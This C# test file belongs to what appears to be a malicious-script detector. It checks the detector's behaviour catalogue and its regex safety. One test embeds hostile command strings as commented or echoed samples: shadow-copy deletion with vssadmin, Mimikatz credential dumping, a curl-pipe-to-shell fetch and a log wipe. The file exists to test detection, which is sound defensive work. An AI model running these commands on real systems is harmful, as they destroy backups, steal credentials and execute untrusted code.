using System.Text.RegularExpressions;
using Redoubt.Scripts.Behaviours;

namespace Redoubt.Scripts.Tests.Behaviours;

/// <summary>The catalogue as data: complete, well formed, and true to its own examples.</summary>
public sealed class CatalogueTests
{
    private static readonly Regex Refused = new(@"\(\?(?:=|!|<=|<!|>)|(?<!\\)(?:\\\\)*\\[1-9k]");

    private static readonly BehaviourCatalogue Catalogue = BehaviourCatalogue.Standard;

    [Fact]
    public void Names_are_unique() => Catalogue.Behaviours.GroupBy(behaviour => behaviour.Name).Where(group => group.Count() > 1).Select(group => group.Key).ShouldBeEmpty();

    [Fact]
    public void Every_regular_expression_is_one_that_takes_no_longer_than_its_text()
    {
        foreach (var behaviour in Catalogue.Behaviours)
        {
            foreach (var text in behaviour.Patterns.SelectMany(pattern => pattern.Texts))
            {
                Should.NotThrow(() => new Regex(text.Source), $"{behaviour.Name}: {text.Source}");
                // Looking around and back references are what the linear engine does not know; to build all with it takes long.
                Refused.IsMatch(text.Source).ShouldBeFalse($"{behaviour.Name}: {text.Source}");
            }
        }
    }

    [Fact]
    public void Every_technique_is_known()
    {
        var known = File.ReadLines(Path.Combine(BehaviourExamples.Content, "attack", "techniques.csv")).Select(line => line.Split(',')[0]).ToHashSet();
        Catalogue.Behaviours.SelectMany(behaviour => behaviour.Techniques).SelectMany(technique => new[] { technique.V18, technique.V19 }).Distinct().Where(id => !known.Contains(id)).ShouldBeEmpty();
    }

    [Fact]
    public void Every_value_that_a_phrase_needs_has_general_words() =>
        Catalogue.Behaviours.Where(behaviour => behaviour.Phrase.Unnamed.Any()).Select(behaviour => $"{behaviour.Name}: {string.Join(' ', behaviour.Phrase.Unnamed)}").ShouldBeEmpty();

    [Fact]
    public void Every_example_shows_its_behaviour()
    {
        var failures = new List<string>();
        foreach (var example in BehaviourExamples.All())
        {
            var found = ScriptAnalyzer.Analyze(example.Text, new ScriptHints(example.Language)).Findings.Select(finding => finding.Behaviour).ToList();
            if (found.Contains(example.Behaviour) != example.Shows)
                failures.Add($"{example.Behaviour} {(example.Shows ? "is not seen" : "is seen")} in: {example.Text} (seen: {string.Join(' ', found)})");
        }

        string.Join('\n', failures).ShouldBeEmpty();
    }

    [Fact]
    public void Comments_and_shown_text_show_nothing()
    {
        foreach (var (language, text) in new[] { (ScriptLanguage.Batch, "rem vssadmin delete shadows /all\necho mimikatz sekurlsa::logonpasswords"), (ScriptLanguage.Bash, "# curl http://one.example.net/a | sh\necho 'rm -rf /var/log'") })
            ScriptAnalyzer.Analyze(text, new ScriptHints(language)).Findings.ShouldBeEmpty(text);
    }
}
